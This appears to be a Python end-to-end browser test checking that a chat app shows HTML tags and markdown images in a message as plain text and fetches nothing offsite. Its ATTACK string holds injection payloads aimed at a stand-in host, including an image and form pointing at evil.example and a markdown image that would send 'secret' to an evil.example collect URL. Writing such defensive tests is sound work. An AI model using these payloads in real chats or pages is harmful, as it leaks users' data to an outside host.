"""Issue 15, "HTML in the chat is rendered, not shown": in Chromium, a message holding tags and
an image that would exfiltrate data shows them as text, builds no element and fetches nothing
off the machine, before and after a reload."""

from __future__ import annotations

from typing import Any

from tests.e2e.pages import ask, offsite, shot

ATTACK = (
    'LoRA on Llama 3.1 8B <img src="https://evil.example/a.png"> <details open>x</details> '
    '<form action="https://evil.example/post"><button>go</button></form> '
    "![](https://evil.example/collect?q=secret)"
)


def _no_markup(page: Any) -> None:
    chat = page.locator("#chat")
    for tag in ("img", "details", "form", "svg image"):
        assert chat.locator(f".message-row {tag}").count() == 0, f"no <{tag}> was built"
    user = page.locator("#chat [data-testid=user]").first.inner_text()
    assert '<img src="https://evil.example/a.png">' in user, "the tag shows as written"


def test_html_and_images_in_a_message_are_text_and_nothing_is_fetched(
    open_page: Any, app_url: str
) -> None:
    page = open_page("desktop", "en-US")
    ask(page, ATTACK)
    _no_markup(page)
    page.reload()
    page.wait_for_selector("#chat [data-testid=user]")
    _no_markup(page)
    assert offsite(page.requested, app_url) == [], "nothing fetched off the machine"
    shot(page, "issue15-chat-html")
